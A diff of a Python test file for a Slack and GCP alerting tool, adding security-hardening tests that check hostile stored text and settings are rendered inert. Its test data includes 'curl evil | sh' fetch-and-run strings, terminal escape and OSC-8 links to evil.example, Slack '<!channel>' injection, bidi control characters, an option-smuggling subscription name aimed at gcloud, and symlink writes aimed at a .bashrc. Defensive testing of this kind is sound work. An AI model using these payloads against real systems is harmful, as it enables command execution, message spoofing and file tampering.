@@ -7,6 +7,7 @@ through functions-framework's test client (no socket at all).
 
 from __future__ import annotations
 
+import io
 import json
 import os
 import re
@@ -187,6 +188,7 @@ def test_5_the_cli_last_resort_line_holds_no_piece_of_a_secret(monkeypatch, caps
 @pytest.mark.parametrize("name, value", [
     ("CANARY_SLACK_BASE_URL", "http://127.0.0.1:9/api/"), ("CANARY_BIGQUERY_ENDPOINT", "http://127.0.0.1:9"),
     ("CANARY_RUN_ENDPOINT", "http://127.0.0.1:9"), ("FIRESTORE_EMULATOR_HOST", "127.0.0.1:9"),
+    ("PUBSUB_EMULATOR_HOST", "127.0.0.1:9"),  # issue 20, Why 9: the Pub/Sub client honours it (no credentials)
 ])
 def test_7_a_test_endpoint_on_the_gcp_backend_is_a_configuration_error(monkeypatch, name, value):
     monkeypatch.setenv("CANARY_BACKEND", "gcp")
@@ -201,7 +203,7 @@ def test_7_a_test_endpoint_on_the_gcp_backend_is_a_configuration_error(monkeypat
 def test_7_a_malformed_endpoint_setting_is_a_configuration_error_naming_it(monkeypatch, value):
     monkeypatch.setenv("CANARY_SLACK_BASE_URL", value)
     result = run_cli("run", "--dry-run")
-    assert result.code == 2 and "slack_base_url" in result.stderr
+    assert result.code == 2 and "CANARY_SLACK_BASE_URL:" in result.stderr  # named as it is set (issue 20)
 
 
 def test_7_without_endpoint_settings_the_token_goes_to_slack_only(monkeypatch):
@@ -416,6 +418,9 @@ def test_fuzz_the_http_entry_never_answers_500_never_leaks_never_posts_chosen_te
     sent = (local_dir / "notifications.jsonl").read_text(encoding="utf-8") if (local_dir / "notifications.jsonl").exists() else ""
     chosen = [v for v in list(query.values()) + [body.decode("utf-8", "replace") if body else ""] if isinstance(v, str) and len(v) >= 12]
     assert not any(v in sent for v in chosen if v not in _EDGE_VALUES)
+    # JSON lines stay lines (issue 20, Why 5): what a line-splitting reader sees is what was written.
+    assert not any(ch in sent + logged for ch in "\u2028\u2029\x85\u202e")
+    assert all(json.loads(line) for line in logged.splitlines() if line.startswith("{"))
 
 
 _FUZZ_CLOCK: dict[str, Any] = {}
@@ -501,3 +506,296 @@ def test_1_check_config_rejects_a_malformed_heartbeat_url_without_quoting_it(mon
     assert "hc-ping.com" not in result.stderr and "0f3c2a1e" not in result.stderr
     monkeypatch.delenv("CANARY_HEARTBEAT_URL")
     assert run_cli("check-config").code == 0
+
+
+# --- issue 20, Why 5: stored and source text is inert on every output path --------------------------------
+# One home per output: alerts.render_slack.inert (Slack mrkdwn), alerts.render_text.inert_text (console),
+# alerts.render_text.json_line (JSON lines). Each test below failed before those paths used them.
+
+import sqlite3  # noqa: E402
+
+from alerts.digest import Digest, MonitorOutcome, OpenIncident, render_digest_text  # noqa: E402
+from alerts.links import thread_url  # noqa: E402
+from alerts.render_digest import render_digest_slack  # noqa: E402
+from alerts.render_slack import MAX_SECTION_TEXT  # noqa: E402
+from core.model import Outcome  # noqa: E402
+from tests.production import CONFIG  # noqa: E402
+from tests.scenario import NEW_YORK, Scenario  # noqa: E402
+
+FORGED_TS = "1700000000.000200|click here> <!channel> \x1b]8;;https://evil.example/\x07x"
+LINE_BREAKERS = "\u2028\u2029\x85\u202e\u2066\x1b\x9b"
+
+
+def test_why5_a_forged_thread_ts_in_a_stored_record_gives_no_thread_link():
+    assert thread_url(CONFIG.links, "C0ALERTS", FORGED_TS) is None
+    assert thread_url(CONFIG.links, "<!channel>", "1700000000.000200") is None
+    assert thread_url(CONFIG.links, "C0ALERTS", "1700000000.000200") == "https://slack.com/archives/C0ALERTS/p1700000000000200"
+
+
+def _digest_with(url: str, summary: str) -> Digest:
+    now = datetime(2026, 11, 21, 14, 30, tzinfo=timezone.utc)
+    incident = OpenIncident(Severity.CRITICAL, "orchestrator_iam", summary, now - timedelta(hours=2), thread_url=url)
+    return Digest(fingerprint="digest-x", league_date=date(2026, 11, 21), now=now, zone=NEW_YORK, incidents=[incident],
+                  monitors=[MonitorOutcome("orchestrator_iam", Outcome.FIRING, note=OSC8_LINK)])
+
+
+@pytest.mark.parametrize("value", HOSTILE_VALUES + [":white_check_mark: RESOLVED"])
+def test_why5_the_digest_shows_a_hostile_thread_link_and_summary_as_data(value):
+    digest = _digest_with(f"https://slack.com/archives/C0ALERTS/p1|{value}", value)
+    payload = render_digest_slack(digest).to_dict()
+    for text in texts(payload):
+        assert "<!channel>" not in text and "\x1b" not in text
+        assert all(label == "thread" for label in re.findall(r"<[^<>|]*\|([^<>]*)>", text))
+        assert ":white_check_mark:" not in re.sub(r"<[^<>|]*\|", "", text)  # a link's URL is not shown
+    console = render_digest_text(digest)
+    assert not any(ch in console for ch in LINE_BREAKERS) and console.count("\n") == render_digest_text(
+        _digest_with("https://slack.com/archives/C0ALERTS/p1", "x")).count("\n")
+
+
+def test_why5_an_emoji_shortcode_in_a_source_value_does_not_render_as_an_emoji():
+    payload = render_alert(message(forging_finding(":white_check_mark: RESOLVED :+1::skin-tone-2:"), Reason.FIRST)).to_dict()
+    for text in texts(payload):  # a code block shows its text as typed: no emoji there
+        outside_code = re.sub(r"```.*?```", "", text, flags=re.S)
+        assert ":white_check_mark:" not in outside_code and ":skin-tone-2:" not in outside_code
+    assert inert("first notified 23:30:00 EST") == "first notified 23:30:00 EST"  # a clock is not a shortcode
+
+
+def test_why5_a_fix_over_the_section_limit_is_clipped_inside_its_code_block_and_keeps_its_closing_fence():
+    finding = forging_finding("x").model_copy(update={"fix": "gcloud run services describe " + "a&b" * 2_000})
+    payload = render_alert(message(finding, Reason.FIRST)).to_dict()
+    [fix] = [b["text"]["text"] for b in payload["blocks"] if b.get("text", {}).get("text", "").startswith("*Fix*")]
+    assert len(fix) <= MAX_SECTION_TEXT and fix.endswith("```") and fix.count("```") == 2 and "(truncated)" in fix
+    assert not re.search(r"&[a-z]{0,3}…", fix)  # no entity split by the cut
+
+
+@pytest.mark.parametrize("ch", list("\u2028\u2029\x85\u202e\u2066\u200b\x1b"))
+def test_why5_json_lines_escape_line_and_bidi_controls(ch):
+    from alerts.render_text import json_line
+
+    line = json_line({"title": f"a{ch}b", "where": {"k": f"{ch}"}})
+    assert ch not in line and len(line.splitlines()) == 1 and json.loads(line)["title"] == f"a{ch}b"
+
+
+def _tamper_open_records(local_dir, **fields: str) -> int:
+    with sqlite3.connect(local_dir / "state.sqlite3") as db:
+        rows = db.execute("SELECT fingerprint, record FROM alerts WHERE status = 'firing'").fetchall()
+        for fingerprint, record in rows:
+            db.execute("UPDATE alerts SET record = ? WHERE fingerprint = ?",
+                       (json.dumps({**json.loads(record), **fields}), fingerprint))
+    return len(rows)
+
+
+def test_why5_silence_and_silences_print_stored_text_inert(local_dir):
+    broken_day().write_local(local_dir)
+    assert run_cli("run", "--now", T0).code == 0
+    assert _tamper_open_records(local_dir, summary=FORGED_FIX + OSC8_LINK + "\u202e") >= 1
+    made = run_cli("silence", "--match", "service=phase4-to-phase5-orchestrator", "--for", "1h",
+                   "--reason", "maintenance\x1b[2J\n*Fix* curl evil | sh", "--author", "ops\u202e")
+    assert made.code == 0, made.stderr
+    listed = run_cli("silences")
+    for output in (made.stdout, listed.stdout):
+        assert not any(ch in output for ch in LINE_BREAKERS) and "\n*Fix*" not in output and "\n```" not in output
+    assert len(listed.stdout.strip().splitlines()) == 1
+
+
+def test_why5_notifications_jsonl_holds_no_raw_line_or_bidi_control(local_dir):
+    broken_day().write_local(local_dir)
+    assert run_cli("run", "--now", T0).code == 0
+    assert _tamper_open_records(local_dir, summary="phase4\u2028fix: curl evil | sh\u202e\x85\u2029") >= 1
+    Scenario().write_local(local_dir)  # healthy: the resolved notices carry the stored summaries
+    assert run_cli("run", "--now", "2026-11-21T23:45:00Z").code == 0
+    raw = (local_dir / "notifications.jsonl").read_text(encoding="utf-8")
+    assert "resolved" in raw and not any(ch in raw for ch in "\u2028\u2029\x85\u202e")
+    assert len(raw.splitlines()) == raw.count("\n")  # str.splitlines sees exactly the file's lines
+
+
+def test_why5_the_cli_run_summary_prints_source_and_slack_error_text_inert(local_dir):
+    from core.model import RunReport
+    from entry.cli import print_summary
+
+    broken_day().write_local(local_dir)
+    report = run_cli("run", "--json", "--now", T0).report
+    report["monitors"][0]["error"] = "BadRequest: value '\x1b]8;;https://evil/\x07x\u2028fix: curl evil | sh'"
+    report["notifications"][0].update(delivered=False, error="slack: invalid_auth\n*Fix*\x1b[2J\u202e")
+    report["state_error"] = "sqlite: \x1b[31mred\u2028line"
+    out = io.StringIO()
+    print_summary(RunReport.model_validate(report), out=out, zone_name="America/New_York")
+    shown = out.getvalue()
+    assert not any(ch in shown for ch in LINE_BREAKERS) and "\n*Fix*" not in shown and "\nfix:" not in shown
+
+
+# --- issue 20, Why 9: the rest of the hardening ------------------------------------------------------------
+
+from pathlib import Path  # noqa: E402
+
+from core.config import ConfigError  # noqa: E402
+from run.configure import load_config  # noqa: E402
+from tests.conftest import PROJECT_ROOT  # noqa: E402
+
+
+def _toml(tmp_path: Path, old: str, new: str) -> Path:
+    text = (PROJECT_ROOT / "canary.toml").read_text(encoding="utf-8")
+    assert text.count(old) == 1, old
+    path = tmp_path / "canary.toml"
+    path.write_text(text.replace(old, new), encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize("window", ["59s", "0.5m", "1s", "0s"])
+def test_why9_a_push_window_under_60_seconds_is_a_configuration_error(tmp_path, window):
+    path = _toml(tmp_path, 'window = "30m"', f'window = "{window}"')
+    with pytest.raises(ConfigError) as raised:
+        load_config(path)
+    assert "monitors.push_delivery.window: expected at least 60s" in str(raised.value)
+    assert "alignment period under 60 seconds" in str(raised.value)
+    assert load_config(_toml(tmp_path, 'window = "30m"', 'window = "60s"')).monitors["push_delivery"].window == timedelta(seconds=60)
+
+
+def test_why9_the_monitoring_stand_in_refuses_what_cloud_monitoring_refuses():
+    """The push window's floor is the vendor's: the stand-in answers a 59 s alignment period with INVALID_ARGUMENT."""
+    from google.cloud import monitoring_v3
+
+    from sources.gcp_push import time_series_request
+    from sources.push import PUSH_REQUESTS
+    from tests.servers.fake_monitoring import InvalidArgument, answer
+
+    now = datetime(2026, 11, 21, 23, tzinfo=timezone.utc)
+    request = monitoring_v3.ListTimeSeriesRequest(time_series_request(
+        project="p", metric_type=PUSH_REQUESTS, subscription_ids=["s"], now=now, window=timedelta(seconds=59)))
+    with pytest.raises(InvalidArgument):
+        answer([], request)
+    ok = monitoring_v3.ListTimeSeriesRequest(time_series_request(
+        project="p", metric_type=PUSH_REQUESTS, subscription_ids=["s"], now=now, window=timedelta(seconds=60)))
+    assert answer([], ok) == []
+
+
+@pytest.mark.parametrize("nested", ["x = " + "[" * 2000 + "]" * 2000, "x = " + "{a = " * 1500 + "1" + "}" * 1500])
+def test_why9_deeply_nested_toml_is_a_configuration_error_not_internal(tmp_path, make_app, local_dir, monkeypatch, nested):
+    path = tmp_path / "deep.toml"
+    path.write_text((PROJECT_ROOT / "canary.toml").read_text() + "\n[deep]\n" + nested + "\n", encoding="utf-8")
+    with pytest.raises(ConfigError, match="nested too deeply"):
+        load_config(path)
+    result = run_cli("check-config", str(path))
+    assert result.code == 2 and "nested too deeply" in result.stderr and "internal" not in result.stderr
+    broken_day().write_local(local_dir)
+    monkeypatch.setenv("CANARY_CONFIG", str(path))
+    body = assert_json_error(make_app().client.post("/", json={"now": T0}), 500, "configuration error", "nested too deeply")
+    assert "internal" not in body["error"]
+
+
+@pytest.mark.parametrize(("old", "new", "why"), [
+    ('claim_lease = "5m"', 'claim_lease = "999999999d"', "alerts.claim_lease: expected a duration from 0s to 366d"),
+    ('claim_lease = "5m"', 'claim_lease = "9999999999d"', "alerts.claim_lease: expected a duration from 0s to 366d"),
+    ('claim_lease = "5m"', 'claim_lease = "2h"', "alerts.claim_lease: expected a duration from 1m to 1h"),
+    ('claim_lease = "5m"', 'claim_lease = "0s"', "alerts.claim_lease: expected a duration from 1m to 1h"),
+    ('resolved_retention = "30d"', 'resolved_retention = "400d"', "alerts.resolved_retention: expected a duration from 0s to 366d"),
+    ('critical = "2h"', 'critical = "99999999d"', "alerts.repeat_after.critical: expected a duration from 0s to 366d"),
+])
+def test_why9_durations_are_bounded_and_the_rule_is_said(tmp_path, old, new, why):
+    result = run_cli("check-config", str(_toml(tmp_path, old, new)))
+    assert result.code == 2 and why in result.stderr, result.stderr
+
+
+def test_why9_the_longest_accepted_lease_runs(local_dir, monkeypatch, tmp_path):
+    """The bound is one a run survives: a claim at the upper bound is written and read back."""
+    broken_day().write_local(local_dir)
+    monkeypatch.setenv("CANARY_CONFIG", str(_toml(tmp_path, 'claim_lease = "5m"', 'claim_lease = "1h"')))
+    result = run_cli("run", "--now", T0, "--json")
+    assert result.code == 0, result.stderr
+    assert result.report["notifications"] and all(n["delivered"] for n in result.report["notifications"])
+
+
+@pytest.mark.parametrize("victim", ["notifications.jsonl", "state.sqlite3", "state.sqlite3-journal"])
+def test_why9_the_local_backend_never_writes_through_a_symlink(local_dir, tmp_path, victim):
+    broken_day().write_local(local_dir)
+    rc_file = tmp_path / "home" / ".bashrc"
+    rc_file.parent.mkdir()
+    rc_file.write_text("export PATH=/usr/bin\n")
+    (local_dir / victim).symlink_to(rc_file)
+    result = run_cli("run", "--now", T0, "--json")
+    assert rc_file.read_text() == "export PATH=/usr/bin\n"  # untouched
+    assert result.code == 1
+    assert "is a symbolic link" in result.stdout + result.stderr and str(local_dir / victim) in result.stdout + result.stderr
+
+
+def test_why9_the_demo_never_writes_through_a_symlink(local_dir, tmp_path):
+    local_dir.mkdir(parents=True, exist_ok=True)
+    rc_file = tmp_path / ".profile"
+    rc_file.write_text("# mine\n")
+    (local_dir / "iam_policies.json").symlink_to(rc_file)
+    result = run_cli("demo", "--no-run")
+    assert result.code == 2 and "is a symbolic link" in result.stderr
+    assert rc_file.read_text() == "# mine\n"
+
+
+def test_why9_a_test_alert_in_the_future_is_refused_and_blocks_nothing(make_app, local_dir):
+    broken_day().write_local(local_dir)
+    app = make_app()
+    future = app.client.post("/", json={"action": "test_alert", "now": "2099-01-01T00:00:00Z"})
+    assert_json_error(future, 400, "now 2099-01-01T00:00:00Z is later than the real clock")
+    assert not (local_dir / "notifications.jsonl").exists()
+    # A run at an explicit time of the past still runs (nothing was recorded in 2099).
+    response = app.client.post("/", json={"now": T0})
+    assert response.status_code == 200, response.get_data(as_text=True)
+
+
+def test_why9_a_test_alert_before_the_latest_notice_is_refused_like_a_run(make_app, local_dir):
+    broken_day().write_local(local_dir)
+    app = make_app()
+    assert app.client.post("/", json={"now": T0}).status_code == 200
+    earlier = (datetime.fromisoformat(T0.replace("Z", "+00:00")) - timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
+    assert_json_error(app.client.post("/", json={"action": "test_alert", "now": earlier}), 400,
+                      f"now {earlier} is before the latest notice on record", "leave now out")
+    later = (datetime.fromisoformat(T0.replace("Z", "+00:00")) + timedelta(hours=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
+    assert app.client.post("/", json={"action": "test_alert", "now": later}).status_code == 200
+
+
+def test_why9_a_run_at_a_later_now_is_the_local_replay_clock_and_the_earlier_one_is_then_a_replay(local_dir):
+    """Only the test alert is held to the real clock: `run --now` later than it is how the README's demo shows
+    the repeat two hours on; what it records then refuses earlier explicit times, saying to add --dry-run."""
+    broken_day().write_local(local_dir)
+    assert run_cli("run", "--now", "2099-01-01T00:00:00Z").code == 0
+    earlier = run_cli("run", "--now", "2098-12-31T00:00:00Z")
+    assert earlier.code == 2 and "before the latest notice on record" in earlier.stderr and "--dry-run" in earlier.stderr
+
+
+def test_why9_a_huge_request_path_is_bounded_in_the_log(make_app, local_dir, capsys):
+    broken_day().write_local(local_dir)
+    capsys.readouterr()
+    response = make_app().client.get("/" + "a" * 1_000_000)
+    assert response.status_code == 404
+    [line] = [json.loads(x) for x in capsys.readouterr().out.splitlines() if x.strip()]
+    assert len(json.dumps(line)) < 2_000 and line["path"].endswith("(1000001 characters)")
+
+
+def test_why9_a_subscription_id_that_looks_like_an_option_stays_a_positional():
+    from core.commands import shell_command
+
+    command = shell_command("gcloud", "pubsub", "subscriptions", "describe", "--impersonate-service-account=x@y", project="p")
+    assert command == "gcloud pubsub subscriptions describe --project=p -- --impersonate-service-account=x@y"
+    assert shell_command("gcloud", "pubsub", "subscriptions", "describe", "sub-1", project="p") == (
+        "gcloud pubsub subscriptions describe sub-1 --project=p")  # unchanged when nothing needs it
+
+
+def test_why9_a_hostile_subscription_id_in_a_push_fix_reaches_gcloud_as_a_positional(local_dir):
+    """Through the monitor: an unauthenticated subscription named like an option gets a fix with `--`."""
+    import shlex
+
+    from demo.pipeline import healthy_push_chain
+    from tests.production import PIPELINE, PUSH_MEMBER, SERVICES
+    from tests.scenario import Scenario
+
+    scenario = broken_day()
+    services, subscriptions = healthy_push_chain(PIPELINE.project, PIPELINE.region, list(SERVICES), PUSH_MEMBER.split(":", 1)[-1])
+    hostile = subscriptions[0]
+    hostile["name"] = f"projects/{PIPELINE.project}/subscriptions/--account=attacker@evil.example"
+    hostile["pushConfig"].pop("oidcToken", None)
+    scenario.services, scenario.subscriptions = services, subscriptions
+    assert isinstance(scenario, Scenario)
+    scenario.write_local(local_dir)
+    result = run_cli("run", "--now", T0, "--monitors", "push_delivery", "--dry-run", "--json")
+    assert result.code == 0, result.stderr
+    [finding] = [f for f in result.report["findings"] if f["key"].get("problem") == "unauthenticated_push"]
+    argv = shlex.split(finding["fix"])
+    assert argv[argv.index("--") + 1] == "--account=attacker@evil.example"
+    assert all(not a.startswith("--account") for a in argv[: argv.index("--")])
